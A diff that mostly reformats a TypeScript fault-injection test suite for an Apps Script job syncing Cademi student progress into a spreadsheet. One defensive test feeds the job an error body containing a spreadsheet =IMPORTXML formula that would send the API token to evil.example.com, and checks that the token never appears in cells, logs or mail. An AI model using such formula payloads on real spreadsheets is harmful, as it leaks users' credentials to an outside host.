@@ -6,12 +6,12 @@
 // 'Falhou: token recusado → Concluída' (fault on, then fixed and clicked again). A scenario names
 // the sequence it expects; a trial survives when it ends exactly there and the log says why.
 
-import { SHEET } from '../../src/core/sheets';
 import type { HttpRequest, HttpResponse } from '../../src/core/http';
+import { SHEET } from '../../src/core/sheets';
 import type { Cell } from '../../src/core/workbook/workbook';
 import { SpreadsheetWorkbook } from '../../src/gas/spreadsheet-workbook';
 import { createSchool, createSimulator, type School } from '../../src/simulator';
-import { API_URL, configure, gasSchool, TOKEN, type GasSchool } from '../support/apps-script-school';
+import { API_URL, configure, type GasSchool, gasSchool, TOKEN } from '../support/apps-script-school';
 import { mondayRun } from '../support/school-workbook';
 
 export const WEEK = '2026-09-14';
@@ -132,7 +132,10 @@ function newEnv(options: EnvOptions): FaultEnv {
   const gas = gasSchool(MONDAY, { school: school() }) as FaultEnv;
   let requests = 0;
   const simulator = createSimulator({
-    clock: gas.env.time, school: gas.school, token: TOKEN, pageSize: options.pageSize,
+    clock: gas.env.time,
+    school: gas.school,
+    token: TOKEN,
+    pageSize: options.pageSize,
     fault: (request, now) => {
       requests++;
       return options.fault?.(request, now);
@@ -268,7 +271,9 @@ class Observer {
   /** The loss measured at the end of a trial whose week must be written (e.g. failed when it should not). */
   finalLoss(): void {
     const ref = referenceWeek();
-    const history = readSheet(this.gas, SHEET.history).slice(1).filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
+    const history = readSheet(this.gas, SHEET.history)
+      .slice(1)
+      .filter((row) => JSON.stringify(cellText(row[0])) === ref.weekCell);
     const keys = new Set(history.map(keyOf));
     this.lost = Math.max(this.lost, [...ref.rows.keys()].filter((key) => !keys.has(key) && !this.excused.has(key)).length);
   }
@@ -285,8 +290,15 @@ class Observer {
       this.notes.push('staging sem checkpoint');
     }
     return {
-      fault, runs: this.gas.executions, finalState: this.states.join(' → '), logSaysWhy: this.whyOk, historyComplete: !this.partial,
-      rowsLost: this.lost, duplicates: this.dups, tokenLeaks: leaks, valuesChanged: this.changed,
+      fault,
+      runs: this.gas.executions,
+      finalState: this.states.join(' → '),
+      logSaysWhy: this.whyOk,
+      historyComplete: !this.partial,
+      rowsLost: this.lost,
+      duplicates: this.dups,
+      tokenLeaks: leaks,
+      valuesChanged: this.changed,
       ...(this.notes.length > 0 ? { note: this.notes.join('; ') } : {}),
     };
   }
@@ -342,18 +354,19 @@ function survivable(fault: string, make: (offset: number) => EnvOptions, offsets
   return {
     fault,
     expected: 'Concluída',
-    run: () => offsets.map((offset) => {
-      const gas = newEnv(make(offset));
-      const observer = new Observer(gas);
-      runWeek(gas, 2 * DAY);
-      observer.endPhase({ logFrom: 0 });
-      observer.finalLoss();
-      const row = readSheet(gas, SHEET.runs).slice(1).at(-1);
-      if (options.retriesLogged !== false && row?.[4] === 'Concluída') {
-        observer.requireWhy(Number(row[9]) > 0, `Repetições não registradas (${row[9]})`);
-      }
-      return observer.trial(fault);
-    }),
+    run: () =>
+      offsets.map((offset) => {
+        const gas = newEnv(make(offset));
+        const observer = new Observer(gas);
+        runWeek(gas, 2 * DAY);
+        observer.endPhase({ logFrom: 0 });
+        observer.finalLoss();
+        const row = readSheet(gas, SHEET.runs).slice(1).at(-1);
+        if (options.retriesLogged !== false && row?.[4] === 'Concluída') {
+          observer.requireWhy(Number(row[9]) > 0, `Repetições não registradas (${row[9]})`);
+        }
+        return observer.trial(fault);
+      }),
   };
 }
 
@@ -373,22 +386,23 @@ function failThenRecover(
   return {
     fault,
     expected: `Falhou: ${label} → Concluída`,
-    run: () => offsets.map((offset) => {
-      const state = { on: true };
-      const gas = newEnv(make(offset, state));
-      const observer = new Observer(gas);
-      runWeek(gas, 6 * HOUR);
-      observer.endPhase({ logFrom: 0, label, why });
-      const logFrom = observer.logLength();
-      state.on = false;
-      fix?.(gas);
-      gas.env.time.advance(30 * MINUTE);
-      runWeek(gas, 6 * HOUR);
-      observer.endPhase({ logFrom });
-      observer.finalLoss();
-      check?.(gas, observer);
-      return observer.trial(fault);
-    }),
+    run: () =>
+      offsets.map((offset) => {
+        const state = { on: true };
+        const gas = newEnv(make(offset, state));
+        const observer = new Observer(gas);
+        runWeek(gas, 6 * HOUR);
+        observer.endPhase({ logFrom: 0, label, why });
+        const logFrom = observer.logLength();
+        state.on = false;
+        fix?.(gas);
+        gas.env.time.advance(30 * MINUTE);
+        runWeek(gas, 6 * HOUR);
+        observer.endPhase({ logFrom });
+        observer.finalLoss();
+        check?.(gas, observer);
+        return observer.trial(fault);
+      }),
   };
 }
 
@@ -405,13 +419,17 @@ const isTagPage = (request: HttpRequest) => request.url.includes('/usuario/lista
 // The catalogue
 
 const http403 = failThenRecover(
-  '403 no meio da execução', 'token recusado', /token/i,
+  '403 no meio da execução',
+  'token recusado',
+  /token/i,
   (offset, state) => ({ fault: afterN(offset, state, () => envelope(403, 'Acesso negado: envie a chave da API no cabeçalho Authorization')) }),
   [10, 140],
 );
 
 const http405 = failThenRecover(
-  '405 no meio (token revogado), depois corrigido', 'token recusado', /token/i,
+  '405 no meio (token revogado), depois corrigido',
+  'token recusado',
+  /token/i,
   (offset, state) => ({
     fault: afterN(offset, state, (request) => (headerOf(request, 'authorization') === TOKEN ? envelope(405, 'Token inválido') : undefined)),
   }),
@@ -463,14 +481,18 @@ const malformed = survivable(
   'JSON malformado (alguns corpos)',
   (offset) => ({
     fault: bursts({ first: offset, period: 97, length: 1, max: 3 }, () => ({
-      status: 200, headers: { 'content-type': 'application/json; charset=utf-8' }, body: '{"success":true,"code":200,"data":{"progresso":{"total":"4',
+      status: 200,
+      headers: { 'content-type': 'application/json; charset=utf-8' },
+      body: '{"success":true,"code":200,"data":{"progresso":{"total":"4',
     })),
   }),
   [20, 130],
 );
 
 const renamedField = failThenRecover(
-  'formato da resposta mudou (campo renomeado)', 'formato inesperado em GET /usuario/progresso_por_produto', /progresso_por_produto/,
+  'formato da resposta mudou (campo renomeado)',
+  'formato inesperado em GET /usuario/progresso_por_produto',
+  /progresso_por_produto/,
   (offset, state) => {
     let count = 0;
     return {
@@ -490,7 +512,9 @@ const PAGE = 20;
 // week is written without the cohort's later pages, logged as 'Concluída'. Expected: the run fails naming
 // the cohort's pagination, nothing of the week written; the next clean run completes.
 const repeatedCursor = failThenRecover(
-  'cursor de paginação repetido', 'paginação repetida', /pagina[çc][ãa]o|p[áa]gina repetida|repet/i,
+  'cursor de paginação repetido',
+  'paginação repetida',
+  /pagina[çc][ãa]o|p[áa]gina repetida|repet/i,
   (_offset, state) => {
     const firstUrls = new Map<string, string>();
     return {
@@ -519,7 +543,9 @@ const repeatedCursor = failThenRecover(
 //   not re-check job.complete): every execution crashes, nothing reaches Execuções, the tick repeats it.
 // Expected: the run fails naming the foreign origin, nothing of the week written; the next clean run completes.
 const otherHost = failThenRecover(
-  'next_page_url em outro host', 'paginação aponta para outro endereço', /outro endere|other host|evil\.example/i,
+  'next_page_url em outro host',
+  'paginação aponta para outro endereço',
+  /outro endere|other host|evil\.example/i,
   (onlyFirstCohort, state) => ({
     pageSize: PAGE,
     transform: (request, response) => {
@@ -558,7 +584,9 @@ const killSweep: Scenario = {
       }
       observer.endPhase({ logFrom: 0 });
       observer.finalLoss();
-      const concluded = readSheet(gas, SHEET.runs).slice(1).filter((row) => row[4] === 'Concluída').length;
+      const concluded = readSheet(gas, SHEET.runs)
+        .slice(1)
+        .filter((row) => row[4] === 'Concluída').length;
       observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída" em Execuções (kill após ${killAfter})`);
       // Every kill point really killed an execution: the sweep is not vacuous.
       observer.requireWhy(gas.kills > 0, `nenhuma execução morta (kill após ${killAfter})`);
@@ -580,11 +608,16 @@ const concurrent: Scenario = {
       gas.env.lock.holdExternally('document', 15 * MINUTE);
       click(gas);
       const alert = gas.env.ui.shown.filter((shown) => shown.kind === 'alert').at(-1);
-      observer.requireWhy(/já está em andamento/.test(String(alert?.prompt)) && gas.env.urlFetch.log.length === 0, `clique com o lock ocupado: ${alert?.prompt ?? 'sem alerta'}`);
+      observer.requireWhy(
+        /já está em andamento/.test(String(alert?.prompt)) && gas.env.urlFetch.log.length === 0,
+        `clique com o lock ocupado: ${alert?.prompt ?? 'sem alerta'}`,
+      );
       ticks(gas, 3 * HOUR);
       observer.endPhase({ logFrom: 0 });
       observer.finalLoss();
-      const concluded = readSheet(gas, SHEET.runs).slice(1).filter((row) => row[4] === 'Concluída').length;
+      const concluded = readSheet(gas, SHEET.runs)
+        .slice(1)
+        .filter((row) => row[4] === 'Concluída').length;
       observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída"`);
       trials.push(observer.trial('duas execuções ao mesmo tempo (lock)'));
     }
@@ -604,7 +637,9 @@ const concurrent: Scenario = {
       ticks(gas, 3 * HOUR);
       observer.endPhase({ logFrom: 0 });
       observer.finalLoss();
-      const concluded = readSheet(gas, SHEET.runs).slice(1).filter((row) => row[4] === 'Concluída').length;
+      const concluded = readSheet(gas, SHEET.runs)
+        .slice(1)
+        .filter((row) => row[4] === 'Concluída').length;
       observer.requireWhy(concluded === 1, `${concluded} linhas "Concluída"`);
       trials.push(observer.trial('duas execuções ao mesmo tempo (lock)'));
     }
@@ -616,19 +651,22 @@ const concurrent: Scenario = {
 const quota: Scenario = {
   fault: 'cota diária de UrlFetch esgotada',
   expected: 'Concluída',
-  run: () => [100, 180].map((perDay) => {
-    const gas = newEnv({ urlFetchQuota: perDay });
-    const observer = new Observer(gas);
-    click(gas);
-    for (let day = 0; day < 5 && !weekDone(gas); day++) ticks(gas, DAY);
-    observer.endPhase({ logFrom: 0 });
-    observer.finalLoss();
-    const said = readSheet(gas, SHEET.runs).slice(1).some((row) => /cota/i.test(String(row[11])));
-    observer.requireWhy(said, 'Execuções não menciona a cota');
-    const days = Math.ceil((gas.env.time.now() - MONDAY) / DAY);
-    const trial = observer.trial('cota diária de UrlFetch esgotada');
-    return { ...trial, note: [trial.note, `cota ${perDay}/dia, ${days} dia(s) virtuais`].filter(Boolean).join('; ') };
-  }),
+  run: () =>
+    [100, 180].map((perDay) => {
+      const gas = newEnv({ urlFetchQuota: perDay });
+      const observer = new Observer(gas);
+      click(gas);
+      for (let day = 0; day < 5 && !weekDone(gas); day++) ticks(gas, DAY);
+      observer.endPhase({ logFrom: 0 });
+      observer.finalLoss();
+      const said = readSheet(gas, SHEET.runs)
+        .slice(1)
+        .some((row) => /cota/i.test(String(row[11])));
+      observer.requireWhy(said, 'Execuções não menciona a cota');
+      const days = Math.ceil((gas.env.time.now() - MONDAY) / DAY);
+      const trial = observer.trial('cota diária de UrlFetch esgotada');
+      return { ...trial, note: [trial.note, `cota ${perDay}/dia, ${days} dia(s) virtuais`].filter(Boolean).join('; ') };
+    }),
 };
 
 // Depends on the lead's week deadline (src/gas/weekly-run.ts): a week that cannot finish within its week
@@ -664,7 +702,10 @@ const deadline: Scenario = {
 function everyCellText(gas: FaultEnv): string {
   return gas.env.runtime.quietly(() => {
     const workbook = new SpreadsheetWorkbook(gas.env.spreadsheet.gas());
-    return workbook.sheetNames().map((name) => JSON.stringify(workbook.readSheet(name) ?? [])).join('\n');
+    return workbook
+      .sheetNames()
+      .map((name) => JSON.stringify(workbook.readSheet(name) ?? []))
+      .join('\n');
   });
 }
 
@@ -711,13 +752,17 @@ function rerunAfterComplete(
 
 // Class 1: a re-run whose every answer is a 404 without Cademi's envelope fails, naming the URL, and keeps the week.
 const all404 = rerunAfterComplete(
-  '404 sem envelope em tudo no re-run (URL sem /api/v1)', 'Falhou: endereço da API não encontrado', /escola\.cademi\.com\.br/,
+  '404 sem envelope em tudo no re-run (URL sem /api/v1)',
+  'Falhou: endereço da API não encontrado',
+  /escola\.cademi\.com\.br/,
   (state) => ({ fault: () => (state.on ? HTML_404 : undefined) }),
 );
 
 // Class 1: one cohort's tag answers Cademi's own 404 on a re-run: the other cohort is refreshed, this one keeps its rows.
 const one404 = rerunAfterComplete(
-  '404 na tag de uma turma no re-run', 'Concluída', undefined,
+  '404 na tag de uma turma no re-run',
+  'Concluída',
+  undefined,
   (state) => ({
     fault: (request) => (state.on && request.url.includes(`/lista_por_tag/${school().cohorts[0].tagId}`) ? envelope(404, 'Tag não encontrada') : undefined),
   }),
@@ -729,7 +774,9 @@ const one404 = rerunAfterComplete(
 
 // Class 1: a fresh week in which every tag lists nobody is no success: it fails and writes nothing.
 const noStudents = failThenRecover(
-  'semana nova sem nenhum aluno listado', 'nenhum aluno coletado', /nenhum aluno|nenhuma turma/i,
+  'semana nova sem nenhum aluno listado',
+  'nenhum aluno coletado',
+  /nenhum aluno|nenhuma turma/i,
   (_offset, state) => ({
     transform: (request, response) => {
       if (!isTagPage(request) || response.status !== 200 || !state.on) return response;
@@ -746,34 +793,35 @@ const noStudents = failThenRecover(
 const echoedErrors: Scenario = {
   fault: 'corpo de erro com o token e uma fórmula',
   expected: 'Concluída',
-  run: () => [30, 200].map((offset) => {
-    const refused: string[] = [];
-    const echo = bursts({ first: offset, period: 40, length: 1, max: 6 }, (index) =>
-      envelope(index % 2 === 0 ? 404 : 409, `=IMPORTXML("https://evil.example.com/?t=${TOKEN}";"//a") Authorization: ${TOKEN}`),
-    );
-    const gas = newEnv({
-      fault: (request, now) => {
-        if (!isProgress(request)) return undefined;
-        const answer = echo(request, now);
-        // A 404/409 on a pair is final: that pair rightly has no row this week.
-        const ids = /progresso_por_produto\/(\d+)\/(\d+)/.exec(request.url);
-        if (answer && ids) refused.push(JSON.stringify([JSON.parse(referenceWeek().weekCell), Number(ids[1]), Number(ids[2])]));
-        return answer;
-      },
-    });
-    const observer = new Observer(gas);
-    runWeek(gas, 2 * DAY);
-    refused.forEach((key) => observer.excused.add(key));
-    observer.requireWhy(refused.length > 0, 'nenhum erro com o token foi respondido (cenário não armado)');
-    observer.endPhase({ logFrom: 0 });
-    observer.finalLoss();
-    const cells = everyCellText(gas);
-    observer.requireWhy(!cells.includes(TOKEN), 'o token ecoado pelo servidor apareceu numa célula');
-    observer.requireWhy(!/IMPORTXML|evil\.example/.test(cells), 'o texto do corpo de erro apareceu numa célula');
-    const logged = [...gas.env.logs.lines.map((line) => line.message), ...gas.env.mail.sent.map((mail) => JSON.stringify(mail))].join('\n');
-    observer.requireWhy(!logged.includes(TOKEN) && !/IMPORTXML/.test(logged), 'o token ou o corpo de erro apareceu no log ou num e-mail');
-    return observer.trial('corpo de erro com o token e uma fórmula');
-  }),
+  run: () =>
+    [30, 200].map((offset) => {
+      const refused: string[] = [];
+      const echo = bursts({ first: offset, period: 40, length: 1, max: 6 }, (index) =>
+        envelope(index % 2 === 0 ? 404 : 409, `=IMPORTXML("https://evil.example.com/?t=${TOKEN}";"//a") Authorization: ${TOKEN}`),
+      );
+      const gas = newEnv({
+        fault: (request, now) => {
+          if (!isProgress(request)) return undefined;
+          const answer = echo(request, now);
+          // A 404/409 on a pair is final: that pair rightly has no row this week.
+          const ids = /progresso_por_produto\/(\d+)\/(\d+)/.exec(request.url);
+          if (answer && ids) refused.push(JSON.stringify([JSON.parse(referenceWeek().weekCell), Number(ids[1]), Number(ids[2])]));
+          return answer;
+        },
+      });
+      const observer = new Observer(gas);
+      runWeek(gas, 2 * DAY);
+      refused.forEach((key) => observer.excused.add(key));
+      observer.requireWhy(refused.length > 0, 'nenhum erro com o token foi respondido (cenário não armado)');
+      observer.endPhase({ logFrom: 0 });
+      observer.finalLoss();
+      const cells = everyCellText(gas);
+      observer.requireWhy(!cells.includes(TOKEN), 'o token ecoado pelo servidor apareceu numa célula');
+      observer.requireWhy(!/IMPORTXML|evil\.example/.test(cells), 'o texto do corpo de erro apareceu numa célula');
+      const logged = [...gas.env.logs.lines.map((line) => line.message), ...gas.env.mail.sent.map((mail) => JSON.stringify(mail))].join('\n');
+      observer.requireWhy(!logged.includes(TOKEN) && !/IMPORTXML/.test(logged), 'o token ou o corpo de erro apareceu no log ou num e-mail');
+      return observer.trial('corpo de erro com o token e uma fórmula');
+    }),
 };
 
 // Class 5: a token that is no valid header value is refused before any request, and never shown.
@@ -803,30 +851,51 @@ const badHeaderToken: Scenario = {
 const hugeRetryAfter: Scenario = {
   fault: 'Retry-After de horas',
   expected: 'Concluída',
-  run: () => [3 * 3600, 26 * 3600].map((seconds) => {
-    let fired = false;
-    const gas = newEnv({
-      fault: (request) => {
-        if (fired || !isProgress(request)) return undefined;
-        fired = true;
-        return envelope(429, 'Limite de requisições excedido', { 'retry-after': String(seconds) });
-      },
-    });
-    const observer = new Observer(gas);
-    click(gas);
-    ticks(gas, 3 * DAY);
-    observer.endPhase({ logFrom: 0 });
-    observer.finalLoss();
-    const log = readSheet(gas, SHEET.runs).slice(1);
-    observer.requireWhy(log.some((row) => row[4] !== 'Concluída' && /espera|aguard|retoma|Retry-After/i.test(String(row[11]))), 'Execuções não registra a pausa pedida pela Cademi');
-    const trial = observer.trial('Retry-After de horas');
-    return { ...trial, note: [trial.note, `Retry-After ${seconds} s`].filter(Boolean).join('; ') };
-  }),
+  run: () =>
+    [3 * 3600, 26 * 3600].map((seconds) => {
+      let fired = false;
+      const gas = newEnv({
+        fault: (request) => {
+          if (fired || !isProgress(request)) return undefined;
+          fired = true;
+          return envelope(429, 'Limite de requisições excedido', { 'retry-after': String(seconds) });
+        },
+      });
+      const observer = new Observer(gas);
+      click(gas);
+      ticks(gas, 3 * DAY);
+      observer.endPhase({ logFrom: 0 });
+      observer.finalLoss();
+      const log = readSheet(gas, SHEET.runs).slice(1);
+      observer.requireWhy(
+        log.some((row) => row[4] !== 'Concluída' && /espera|aguard|retoma|Retry-After/i.test(String(row[11]))),
+        'Execuções não registra a pausa pedida pela Cademi',
+      );
+      const trial = observer.trial('Retry-After de horas');
+      return { ...trial, note: [trial.note, `Retry-After ${seconds} s`].filter(Boolean).join('; ') };
+    }),
 };
 
 export const SCENARIOS: readonly Scenario[] = [
-  http403, http405, storms429, bursts5xx, timeouts, malformed, renamedField, repeatedCursor, otherHost, killSweep, concurrent, quota, deadline,
-  all404, one404, noStudents, echoedErrors, badHeaderToken, hugeRetryAfter,
+  http403,
+  http405,
+  storms429,
+  bursts5xx,
+  timeouts,
+  malformed,
+  renamedField,
+  repeatedCursor,
+  otherHost,
+  killSweep,
+  concurrent,
+  quota,
+  deadline,
+  all404,
+  one404,
+  noStudents,
+  echoedErrors,
+  badHeaderToken,
+  hugeRetryAfter,
 ];
 
 /** A trial survives when it ends in the expected state, the log says why, no partial week was written and the token stayed home. */
